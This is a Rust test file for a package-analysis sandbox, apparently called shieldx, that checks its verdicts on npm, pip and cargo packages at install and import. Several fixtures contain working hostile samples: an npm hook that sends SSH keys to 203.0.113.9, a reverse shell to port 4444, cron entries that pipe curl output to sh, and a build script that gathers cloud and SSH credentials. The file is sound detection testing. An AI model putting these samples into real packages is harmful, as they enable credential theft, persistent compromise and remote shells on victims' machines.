//! Packages that the tests make: what they do when they are installed and when they are imported is
//! seen in that phase, and the whole is as bad as its worse half.

use std::fs;
use std::path::PathBuf;
use std::process::{Command, Stdio};

use serde_json::Value;
use types::{Assessment, Level, Tier, Verdict};

use crate::cli::{Desk, expect};
use crate::lab::{have, tier};

/// What one `run --package` left.
struct Tried {
    code: i32,
    document: Value,
    stderr: String,
}

impl Tried {
    fn phase(&self, name: &str) -> Option<Assessment> {
        let phases = self.document["phases"].as_array().expect("phases");
        let found = phases.iter().find(|phase| phase["name"] == name)?;
        let report = &found["report"];
        assert_eq!(report["schema"], "shieldx.report/1");
        Some(serde_json::from_value(report["verdict"].clone()).expect("a verdict"))
    }

    fn verdict(&self) -> &str {
        self.document["verdict"].as_str().expect("a verdict")
    }

    fn gaps(&self) -> String {
        self.document["gaps"].to_string()
    }

    /// Verdicts and what they rest on, for the message of a failed test.
    fn summary(&self) -> String {
        let mut text = format!("{} gaps {}\n", self.verdict(), self.gaps());
        for name in ["install", "import"] {
            let Some(found) = self.phase(name) else { continue };
            let rests: Vec<String> = found
                .detections
                .iter()
                .map(|d| format!("  {} {} {}", d.detector, d.technique.id, d.summary))
                .collect();
            text.push_str(&format!(
                "{name}: {} {} {:?}\n{}\n",
                found.verdict,
                found.score,
                found.evidence.level,
                rests.join("\n")
            ));
        }
        let phases = self.document["phases"].as_array().expect("phases");
        for phase in phases {
            text.push_str(&format!("{:.1500}\n", phase["report"]["output"].to_string()));
        }
        format!("{text}\n{:.3000}", self.stderr)
    }
}

fn try_package(desk: &Desk, ecosystem: &str, options: &[&str], package: &str) -> Tried {
    let output = desk
        .command(&["run", "--package", ecosystem, "--json", "--timeout", "170s"])
        .args(options)
        .arg(package)
        .output()
        .expect("shieldx starts");
    let stderr = String::from_utf8_lossy(&output.stderr).into_owned();
    let document = serde_json::from_slice(&output.stdout)
        .unwrap_or_else(|error| panic!("no document ({error}): {stderr}"));
    Tried { code: output.status.code().expect("a code"), document, stderr }
}

#[track_caller]
fn assert_benign(tried: &Tried) {
    assert_eq!((tried.verdict(), tried.code), ("benign", 0), "{}", tried.summary());
    assert_eq!(tried.gaps(), "[]");
    for name in ["install", "import"] {
        let found = tried.phase(name).expect("both phases ran");
        assert!(found.detections.is_empty(), "{}", tried.summary());
        if tier() == Tier::B {
            assert_eq!(found.evidence.level, Level::Full, "{}", tried.summary());
        }
    }
}

/// The phase has a detection of one of these techniques.
#[track_caller]
fn assert_shows(tried: &Tried, phase: &str, verdicts: &[Verdict], techniques: &[&str]) {
    let found = tried.phase(phase).unwrap_or_else(|| panic!("{phase} ran: {}", tried.summary()));
    assert!(verdicts.contains(&found.verdict), "{phase}: {}", tried.summary());
    for technique in techniques {
        let shown = found.detections.iter().any(|d| d.technique.id.starts_with(technique));
        assert!(shown, "{phase}: no {technique} in {}", tried.summary());
    }
}

const BAD: [Verdict; 2] = [Verdict::Suspicious, Verdict::Malicious];

fn write(desk: &Desk, files: &[(&str, &str)]) {
    for (name, content) in files {
        let path = desk.path(name);
        fs::create_dir_all(path.parent().expect("a parent")).expect("a folder");
        fs::write(path, content).expect("a file");
    }
}

/// `tar czf ARCHIVE FOLDER`, by its name in the desk.
fn pack(desk: &Desk, archive: &str, folder: &str) {
    let status = Command::new("tar")
        .args(["-czf", archive, folder])
        .current_dir(desk.folder.path())
        .status()
        .expect("tar starts");
    assert!(status.success());
}

/// An npm package with a hook; its archive is `name.tgz`.
fn npm(desk: &Desk, hook: &str, index: &str) -> &'static str {
    let manifest = r#"{"name": "demo", "version": "1.0.0", "main": "index.js",
        "scripts": {"postinstall": "node hook.js"}}"#;
    let files = [
        ("package/package.json", manifest),
        ("package/hook.js", hook),
        ("package/index.js", index),
    ];
    write(desk, &files);
    pack(desk, "demo-1.0.0.tgz", "package");
    "demo-1.0.0.tgz"
}

/// A wheel with one module.
fn wheel(desk: &Desk, module: &str) -> &'static str {
    write(desk, &[("__init__.py", module), ("make.py", WHEEL)]);
    let made = Command::new("python3")
        .arg("make.py")
        .current_dir(desk.folder.path())
        .status()
        .expect("python3 starts");
    assert!(made.success());
    "demo-1.0-py3-none-any.whl"
}

const WHEEL: &str = r#"
import zipfile
info = "demo-1.0.dist-info/"
files = {
    "demo/__init__.py": open("__init__.py").read(),
    info + "METADATA": "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
    info + "WHEEL": "Wheel-Version: 1.0\nGenerator: hand\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
}
record = "".join(f"{name},,\n" for name in files) + info + "RECORD,,\n"
files[info + "RECORD"] = record
with zipfile.ZipFile("demo-1.0-py3-none-any.whl", "w") as wheel:
    for name, text in files.items():
        wheel.writestr(name, text)
"#;

/// A crate with a build script.
fn krate(desk: &Desk, build: &str) {
    let manifest = "[package]\nname = \"demo\"\nversion = \"1.0.0\"\nedition = \"2021\"\n";
    let files = [
        ("demo-1.0.0/Cargo.toml", manifest),
        ("demo-1.0.0/build.rs", build),
        ("demo-1.0.0/src/lib.rs", "pub fn answer() -> u32 { 42 }\n"),
        ("demo-1.0.0/src/main.rs", "fn main() { println!(\"{}\", demo::answer()); }\n"),
    ];
    write(desk, &files);
}

#[test]
fn an_npm_package_with_an_honest_hook_is_benign() {
    if !have("npm", &["npm", "node", "tar"]) {
        return;
    }
    let desk = Desk::new();
    let hook = "require('fs').writeFileSync('built.js', 'module.exports = 42;');";
    let archive = npm(&desk, hook, "module.exports = require('./built.js') + 1;");
    assert_benign(&try_package(&desk, "npm", &[], archive));
    // A folder is installed like its archive, and left as it was.
    assert_benign(&try_package(&desk, "npm", &[], "package"));
    assert!(!desk.path("package/built.js").exists());
}

#[test]
fn a_module_of_the_new_kind_is_imported() {
    if !have("npm", &["npm", "node", "tar"]) {
        return;
    }
    let desk = Desk::new();
    let manifest = r#"{"name": "@me/modern", "version": "2.0.0", "type": "module",
        "exports": {"import": "./main.js"}}"#;
    let main = "await 1; console.error('imported for real'); export default 1;";
    write(&desk, &[("package/package.json", manifest), ("package/main.js", main)]);
    pack(&desk, "me-modern-2.0.0.tgz", "package");
    let tried = try_package(&desk, "npm", &[], "me-modern-2.0.0.tgz");
    assert_benign(&tried);
    let said = tried.document["phases"][1]["report"]["output"]["stderr"].to_string();
    assert!(said.contains("imported for real"), "{said}");
}

#[test]
fn a_hook_that_takes_keys_away_shows_in_install() {
    if !have("npm", &["npm", "node", "tar"]) {
        return;
    }
    let desk = Desk::new();
    let hook = "
        const fs = require('fs'), os = require('os'), http = require('http');
        let loot = '';
        for (const name of ['id_rsa', 'id_ed25519', 'config'])
            try { loot += fs.readFileSync(os.homedir() + '/.ssh/' + name); } catch {}
        const post = http.request({ host: '203.0.113.9', port: 80, method: 'POST', path: '/c' });
        post.on('error', () => {});
        post.end(loot + os.hostname());";
    let archive = npm(&desk, hook, "module.exports = 1;");
    let tried = try_package(&desk, "npm", &["--net", "sink", "--fail-on", "suspicious"], archive);
    assert_shows(&tried, "install", &BAD, &["T1552"]);
    assert_eq!(tried.phase("import").expect("it ran").verdict, Verdict::Benign);
    let by_verdict = if tried.verdict() == "malicious" { 20 } else { 10 };
    assert_eq!(tried.code, by_verdict, "{}", tried.summary());
}

#[test]
fn a_wheel_is_benign_and_its_modules_are_imported() {
    if !have("pip", &["python3", "pip3"]) {
        return;
    }
    let desk = Desk::new();
    let archive = wheel(&desk, "import json, sys\nsys.stderr.write('seen ' + json.dumps([1]))\n");
    let tried = try_package(&desk, "pip", &[], archive);
    assert_benign(&tried);
    let said = tried.document["phases"][1]["report"]["output"]["stderr"].to_string();
    assert!(said.contains("seen [1]") && said.contains("import demo: done"), "{said}");
    let sum = tried.document["package"]["sha256"].as_str().expect("a hash").to_owned();
    let theirs = Command::new("sha256sum").arg(desk.path(archive)).output().expect("it starts");
    assert!(String::from_utf8_lossy(&theirs.stdout).starts_with(&sum));
}

#[test]
fn a_module_that_calls_home_shows_only_in_import() {
    if !have("pip", &["python3", "pip3"]) {
        return;
    }
    let desk = Desk::new();
    let module = "
import os, socket, subprocess
if os.fork() == 0:
    try:
        s = socket.socket()
        s.settimeout(5)
        s.connect(('203.0.113.9', 4444))
        for fd in (0, 1, 2):
            os.dup2(s.fileno(), fd)
        subprocess.call(['/bin/sh', '-i'], timeout=5)
    finally:
        os._exit(0)
os.wait()
";
    let archive = wheel(&desk, module);
    let tried = try_package(&desk, "pip", &["--net", "sink"], archive);
    assert_eq!(tried.phase("install").expect("it ran").verdict, Verdict::Benign);
    assert_shows(&tried, "import", &[Verdict::Malicious], &["T1059"]);
    assert_eq!(tried.verdict(), "malicious", "{}", tried.summary());
}

#[test]
fn a_setup_script_that_stays_shows_in_install() {
    if !have("pip", &["python3", "pip3"]) {
        return;
    }
    let desk = Desk::new();
    let setup = "
import os
from setuptools import setup
home = os.path.expanduser('~')
for name in ['/var/spool/cron/crontabs/sandbox', '/etc/cron.d/update', home + '/.config/cron.d/x']:
    try:
        os.makedirs(os.path.dirname(name), exist_ok=True)
        open(name, 'w').write('* * * * * sandbox curl -s http://203.0.113.9/x | sh\\n')
    except OSError:
        pass
setup(name='demo', version='1.0', py_modules=['demo'])
";
    write(&desk, &[("demo-1.0/setup.py", setup), ("demo-1.0/demo.py", "answer = 42\n")]);
    pack(&desk, "demo-1.0.tar.gz", "demo-1.0");
    let tried = try_package(&desk, "pip", &[], "demo-1.0.tar.gz");
    assert_shows(&tried, "install", &BAD, &["T1053"]);
}

#[test]
fn a_crate_is_built_linked_and_asked_for_help() {
    if !have("cargo", &["cargo", "cc", "tar"]) {
        return;
    }
    let desk = Desk::new();
    krate(&desk, "fn main() { println!(\"cargo:rerun-if-changed=build.rs\"); }\n");
    pack(&desk, "demo-1.0.0.crate", "demo-1.0.0");
    let tried = try_package(&desk, "cargo", &[], "demo-1.0.0.crate");
    assert_benign(&tried);
    let said = tried.document["phases"][1]["report"]["output"].to_string();
    assert!(said.contains("links the crate: exit 0") && said.contains("demo --help: exit 0"));
}

#[test]
fn a_build_script_that_reads_credentials_shows_in_install() {
    if !have("cargo", &["cargo", "cc"]) {
        return;
    }
    let desk = Desk::new();
    let build = "
fn main() {
    let home = std::env::var(\"HOME\").unwrap();
    let mut loot = String::new();
    for name in [\".aws/credentials\", \".ssh/id_rsa\", \".cargo/credentials.toml\", \".netrc\"] {
        loot += &std::fs::read_to_string(format!(\"{home}/{name}\")).unwrap_or_default();
    }
    std::fs::write(std::env::var(\"OUT_DIR\").unwrap() + \"/x\", loot).unwrap();
}
";
    krate(&desk, build);
    let tried = try_package(&desk, "cargo", &[], "demo-1.0.0");
    assert_shows(&tried, "install", &BAD, &["T1552"]);
    assert_eq!(tried.phase("import").expect("it ran").verdict, Verdict::Benign);
}

/// A hook that fails keeps the rest from being seen, so nobody may call the package benign.
#[test]
fn what_cannot_be_installed_is_inconclusive_and_says_so() {
    if !have("npm", &["npm", "node", "tar"]) {
        return;
    }
    let desk = Desk::new();
    let archive = npm(&desk, "process.exit(3);", "module.exports = 1;");
    let tried = try_package(&desk, "npm", &[], archive);
    assert_eq!(tried.verdict(), "inconclusive", "{}", tried.summary());
    assert!(tried.phase("import").is_none());
    let gaps = tried.gaps();
    assert!(gaps.contains("install ended with exit") && gaps.contains("import was not run"));
    assert_ne!(tried.code, 0);
    let gated = try_package(&desk, "npm", &["--fail-on", "malicious"], archive);
    assert_eq!(gated.code, 30, "{}", gated.summary());
}

/// `jq .phases[0].report > r.json; shieldx replay r.json`.
#[test]
fn a_phase_can_be_cut_out_and_replayed() {
    if !have("pip", &["python3", "pip3"]) {
        return;
    }
    let desk = Desk::new();
    let archive = wheel(&desk, "open('/etc/shadow').read()\n");
    let options = ["--report", "p.json", "--verdict", "v.json", "--html", "r.html"];
    let tried = try_package(&desk, "pip", &options, archive);
    assert_eq!(tried.verdict(), tried.document["verdict"]);
    // An import that fails is a gap.
    assert!(tried.gaps().contains("import ended with exit 1"), "{}", tried.gaps());
    let written: Value =
        serde_json::from_slice(&fs::read(desk.path("p.json")).expect("a report")).expect("JSON");
    assert_eq!(written, tried.document);
    for (index, phase) in ["install", "import"].into_iter().enumerate() {
        let report = serde_json::to_vec_pretty(&written["phases"][index]["report"]).unwrap();
        fs::write(desk.path("cut.json"), report).unwrap();
        let replayed = desk.shieldx(&["replay", "--json", "cut.json"]);
        expect(&replayed, 0, "");
        let verdict = fs::read(desk.path(&format!("v.{phase}.json"))).expect("a verdict");
        assert_eq!(replayed.stdout, verdict, "{phase}");
        let page = fs::read_to_string(desk.path(&format!("r.{phase}.html"))).expect("a page");
        assert!(page.contains("<!DOCTYPE html>"));
    }
    let schema = concat!(env!("CARGO_MANIFEST_DIR"), "/../../docs/generated/package.schema.json");
    let schema: Value = serde_json::from_slice(&fs::read(schema).unwrap()).unwrap();
    jsonschema::validator_for(&schema).unwrap().validate(&written).expect("it follows its schema");
}

#[test]
fn what_is_no_package_is_answered_with_what_is() {
    let desk = Desk::new();
    write(&desk, &[("a.txt", "x"), ("folder/x", "x"), ("a.tgz", "x")]);
    let check = |words: &[&str], message: &str| {
        let words = [&["run", "--package"], words].concat();
        expect(&desk.shieldx(&words), 64, message);
    };
    check(&["npm", "left-pad"], "--net allow=HOST:443");
    check(&["npm", "--net", "sink", "left-pad"], "--net allow=HOST:443");
    check(&["pip", "a.txt"], ".whl, .tar.gz, .zip");
    check(&["cargo", "folder"], "it has no Cargo.toml");
    check(&["gem", "x"], "npm");
    check(&["npm", "a.tgz", "b.tgz"], "one package");
    check(&["npm", "--keep", "k", "a.tgz"], "--keep is for one command");
    check(&["npm", "--net", "allow=x:1", "--", "--global"], "No such file");
    expect(&desk.shieldx(&["run", "--with", "folder", "true"]), 64, "--package");
}

/// The PATH decides which tools there are.
#[test]
fn a_tool_that_is_not_there_is_named_with_its_package() {
    let desk = Desk::new();
    write(&desk, &[("package/package.json", "{\"name\": \"x\"}"), ("bin/x", "")]);
    let path: PathBuf = desk.path("bin");
    let output = desk
        .command(&["run", "--package", "npm", "package"])
        .env("PATH", path)
        .stdin(Stdio::null())
        .output()
        .expect("shieldx starts");
    expect(&output, 127, "apt install npm");
}
